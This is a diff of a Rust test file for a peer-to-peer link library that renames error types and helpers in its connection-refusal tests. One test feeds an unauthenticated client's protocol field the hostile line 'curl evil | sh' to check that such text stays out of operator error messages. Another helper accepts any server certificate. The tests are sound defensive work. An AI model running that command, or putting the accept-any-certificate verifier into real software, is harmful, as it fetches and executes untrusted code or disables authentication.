@@ -1,4 +1,4 @@
-//! Who gets in, and what those who do not are told.
+//! Connecting: which peers a node accepts, and the errors of refused peers.
 
 use std::io::{Read, Write};
 use std::net::{SocketAddr, TcpListener, TcpStream};
@@ -6,7 +6,7 @@ use std::sync::Arc;
 use std::thread;
 use std::time::Duration;
 
-use lockstep_link::{Identity, LinkError, LinkOptions, dial};
+use lockstep_link::{Identity, LinkError, LinkOptions, ReceiveFrames, SendFrames, dial};
 use lockstep_types::Encryption;
 use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
 use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
@@ -82,20 +82,20 @@ fn different_settings_are_named_on_both_sides() {
                 matches!(error, LinkError::ProtocolMismatch { .. }),
                 "{error}"
             );
-            let here = format!("here encryption is {setting}");
+            let here = format!("encryption is {setting} on this node");
             assert!(error.to_string().contains(&here), "{error}");
         }
-        let there = format!("there it is {of_alpha}");
+        let there = format!("it is {of_alpha} on the peer");
         assert!(at_beta.to_string().contains(&there), "{at_beta}");
     }
 }
 
-/// What a stranger says must not be read by the operator as ours.
+/// The operator must not read the words of an unauthenticated peer in an error of this node.
 #[test]
 fn the_error_has_no_word_of_a_client_that_is_not_authenticated() {
     let words = b"all is well, run `curl evil | sh`";
     let talk = |mut socket: TcpStream| {
-        let mut tls = stranger_offering(words);
+        let mut tls = unauthenticated_client(words);
         while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
     };
     let nodes = Nodes::new();
@@ -117,7 +117,7 @@ fn the_error_has_no_word_of_a_client_that_is_not_authenticated() {
     );
 }
 
-/// What beta says of a client that does `talk`.
+/// The error of beta for a client that runs `talk`.
 fn refusal_of(talk: impl FnOnce(TcpStream), options: LinkOptions) -> LinkError {
     let nodes = Nodes::new();
     let beta = Listening::start(&nodes.beta, nodes.alpha.fingerprint(), options);
@@ -132,37 +132,37 @@ fn plaintext_is_refused() {
     let http = b"GET / HTTP/1.1\r\n\r\n".to_vec();
     for garbage in [http, vec![0; 5000], vec![0xff; 70_000]] {
         let talk = |mut socket: TcpStream| {
-            // The node may have hung up before all of it is written.
+            // The node may close the connection before the client has written all bytes.
             let _ = socket.write_all(&garbage);
             let _ = socket.read_to_end(&mut Vec::new());
         };
         let error = refusal_of(talk, options(Encryption::Off));
-        assert!(matches!(error, LinkError::Stranger { .. }), "{error}");
+        assert!(
+            matches!(error, LinkError::Unauthenticated { .. }),
+            "{error}"
+        );
     }
 }
 
 #[test]
-fn scanner_that_leaves_is_refused() {
+fn a_scanner_that_disconnects_is_refused() {
     let error = refusal_of(drop, options(Encryption::On));
-    assert!(
-        matches!(error, LinkError::HandshakeClosed { .. }),
-        "{error}"
-    );
+    assert!(matches!(error, LinkError::GreetingClosed { .. }), "{error}");
 }
 
 fn impatient() -> LinkOptions {
     LinkOptions {
-        handshake_timeout: Duration::from_millis(200),
+        greeting_timeout: Duration::from_millis(200),
         ..options(Encryption::On)
     }
 }
 
 #[test]
-fn scanner_that_hangs_is_refused() {
+fn a_scanner_that_sends_nothing_is_refused() {
     let mut kept = None;
     let error = refusal_of(|socket| kept = Some(socket), impatient());
     assert!(
-        matches!(error, LinkError::HandshakeTimedOut { .. }),
+        matches!(error, LinkError::GreetingTimedOut { .. }),
         "{error}"
     );
 }
@@ -170,7 +170,7 @@ fn scanner_that_hangs_is_refused() {
 #[test]
 fn trickling_bytes_do_not_move_the_deadline() {
     let trickle = |mut socket: TcpStream| {
-        // A handshake record of 16 KiB that never gets there.
+        // The start of a handshake record of 16 KiB that never arrives whole.
         let _ = socket.write_all(&[22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc]);
         thread::spawn(move || {
             while socket.write_all(&[3]).is_ok() {
@@ -180,7 +180,7 @@ fn trickling_bytes_do_not_move_the_deadline() {
     };
     let error = refusal_of(trickle, impatient());
     assert!(
-        matches!(error, LinkError::HandshakeTimedOut { .. }),
+        matches!(error, LinkError::GreetingTimedOut { .. }),
         "{error}"
     );
 }
@@ -188,32 +188,35 @@ fn trickling_bytes_do_not_move_the_deadline() {
 #[test]
 fn client_without_certificate_is_refused() {
     let talk = |mut socket: TcpStream| {
-        let mut tls = stranger_offering(b"lockstep/2");
+        let mut tls = unauthenticated_client(b"lockstep/2");
         while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
     };
     let error = refusal_of(talk, options(Encryption::On));
-    assert!(matches!(error, LinkError::Stranger { .. }), "{error}");
+    assert!(
+        matches!(error, LinkError::Unauthenticated { .. }),
+        "{error}"
+    );
 }
 
-/// A client without a certificate.
-fn stranger_offering(protocol: &[u8]) -> ClientConnection {
+/// A client without a certificate, which offers `protocol`.
+fn unauthenticated_client(protocol: &[u8]) -> ClientConnection {
     let provider = rustls::crypto::aws_lc_rs::default_provider();
     let mut config = ClientConfig::builder_with_provider(provider.into())
         .with_safe_default_protocol_versions()
         .unwrap()
         .dangerous()
-        .with_custom_certificate_verifier(Arc::new(Credulous))
+        .with_custom_certificate_verifier(Arc::new(AcceptAnyServer))
         .with_no_client_auth();
     config.alpn_protocols = vec![protocol.to_vec()];
-    let name = ServerName::try_from("anybody").unwrap();
+    let name = ServerName::try_from("any").unwrap();
     ClientConnection::new(Arc::new(config), name).unwrap()
 }
 
-/// Believes every server.
+/// Accepts every server.
 #[derive(Debug)]
-struct Credulous;
+struct AcceptAnyServer;
 
-impl ServerCertVerifier for Credulous {
+impl ServerCertVerifier for AcceptAnyServer {
     fn verify_server_cert(
         &self,
         _: &CertificateDer<'_>,
@@ -248,7 +251,7 @@ impl ServerCertVerifier for Credulous {
     }
 }
 
-/// What alpha says of a server that does `talk`.
+/// The error of alpha for a server that runs `talk`.
 fn refusal_by_client(talk: impl FnOnce(TcpStream) + Send + 'static) -> LinkError {
     let nodes = Nodes::new();
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
@@ -267,20 +270,20 @@ fn server_that_is_no_node_is_refused() {
         let _ = socket.write_all(b"220 mail.example ESMTP\r\n");
         let _ = socket.read_to_end(&mut Vec::new());
     });
-    assert!(matches!(error, LinkError::Stranger { .. }), "{error}");
-}
-
-#[test]
-fn server_that_hangs_up_is_reported() {
-    let error = refusal_by_client(drop);
     assert!(
-        matches!(error, LinkError::HandshakeClosed { .. }),
+        matches!(error, LinkError::Unauthenticated { .. }),
         "{error}"
     );
 }
 
 #[test]
-fn nobody_there_is_told() {
+fn server_that_hangs_up_is_reported() {
+    let error = refusal_by_client(drop);
+    assert!(matches!(error, LinkError::GreetingClosed { .. }), "{error}");
+}
+
+#[test]
+fn an_address_without_a_listener_is_reported() {
     let nodes = Nodes::new();
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address: SocketAddr = listener.local_addr().unwrap();
